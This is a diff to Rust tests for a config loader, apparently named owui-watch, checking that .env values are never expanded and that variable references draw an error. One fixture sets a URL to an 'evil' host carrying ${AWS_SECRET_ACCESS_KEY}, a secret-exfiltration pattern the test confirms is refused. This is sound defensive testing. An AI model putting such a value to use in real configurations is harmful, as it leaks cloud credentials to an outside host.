@@ -1274,24 +1274,35 @@ fn a_key_from_outside_the_folder_is_the_users() {
 #[test]
 fn a_dotenv_is_not_expanded() {
     let (name, value) = std::env::vars().find(|(name, _)| name.eq_ignore_ascii_case("path")).unwrap();
-    let load = |text: &str| Project::new().with(".env", text).good("");
-    let excluded = |text: &str| load(&format!("OWUI_WATCH_EXCLUDE={text}\n")).exclude.join(",");
-    for text in [format!("${name}"), format!("${{{name}}}"), format!("\"x${name}\"")] {
-        let got = excluded(&text);
-        assert!(!got.contains(&value) && got.contains(&name), "{text}: {got}");
+    let excluded = |text: &str| {
+        let project = Project::new().with(".env", &format!("OWUI_WATCH_EXCLUDE={text}\n"));
+        project.load("").map(|config| config.exclude.join(",")).map_err(|error| error.to_string())
+    };
+    for text in [format!("${name}"), format!("${{{name}}}"), format!("\"x${name}\""), "'x'$A".to_owned()] {
+        let said = excluded(&text).unwrap_err();
+        assert!(!said.contains(&value), "{said}");
+        assert_eq!(said, "cannot use `.env:1`: `OWUI_WATCH_EXCLUDE` names another variable with `$`", "{text}");
     }
-    assert_eq!(excluded("'$A'"), "$A");
-    assert_eq!(excluded(r"\$A"), "$A");
-    assert_eq!(excluded("\"*$py.class\""), "*$py.class");
-    assert_eq!(load("A=x\nOWUI_WATCH_EXCLUDE=$A\n").exclude, ["$A"]);
+    for (text, expected) in
+        [("'$A'", "$A"), (" '${A}/b' # c", "${A}/b"), (r"\$A", "$A"), ("'*$py.class'", "*$py.class"), ("x$1", "x$1")]
+    {
+        assert_eq!(excluded(text).as_deref(), Ok(expected), "{text}");
+    }
     let refused = |text: &str| Project::new().with(".env", text).refusal("");
     refused("OPENWEBUI_URL=https://evil/${AWS_SECRET_ACCESS_KEY}\n").says(&expect![[r#"
         error: cannot use `.env:1`: `OPENWEBUI_URL` names another variable with `$`
         hint: write its value: owui-watch replaces no variables
+        keep a `$` by putting the value in '…'
+    "#]]);
+    refused("OWUI_WATCH_STATE=${HOME}/st\n").says(&expect![[r#"
+        error: cannot use `.env:1`: `OWUI_WATCH_STATE` names another variable with `$`
+        hint: write its value: owui-watch replaces no variables
+        keep a `$` by putting the value in '…'
     "#]]);
     refused("A=1\napi_key=$MY_KEY\n").says(&expect![[r#"
         error: cannot use `.env:2`: `api_key` names another variable with `$`
         hint: write its value: owui-watch replaces no variables
+        keep a `$` by putting the value in '…'
     "#]]);
 }
 
@@ -1370,6 +1381,13 @@ fn a_variable_that_is_almost_ours_is_named() {
         warned(Project::new().with_env("OPENWEBUI_APIKEY", "sk-5ecre7")),
         ["owui-watch does not know `OPENWEBUI_APIKEY` in the environment | did you mean `OPENWEBUI_API_KEY`?"]
     );
+    // Other programs have variables too: ours is set elsewhere.
+    let project = Project::new().with_env("OPEN_WEBUI_URL", "http://no").with_env("OPENWEBUI_PASSWORD", "5ecre7");
+    let project = project.with_env("OWUI_WACTH_POLL", "1s");
+    assert_eq!(warned(project).len(), 3);
+    let project = Project::new().with_env("OPEN_WEBUI_URL", "http://no").with_env("OPENWEBUI_PASSWORD", "5ecre7");
+    let project = project.with_env("OWUI_WACTH_POLL", "1s").with("watch.toml", "url = 'http://it'\npoll = '2s'");
+    assert_eq!(warned(project.with(".env", "api_key=sk-1\n")), [""; 0]);
     // The right one is there as well.
     assert_eq!(warned(Project::new().with(".env", "OPENWEBUI_ULR=a\nOPENWEBUI_URL=http://it\n")), [""; 0]);
 }
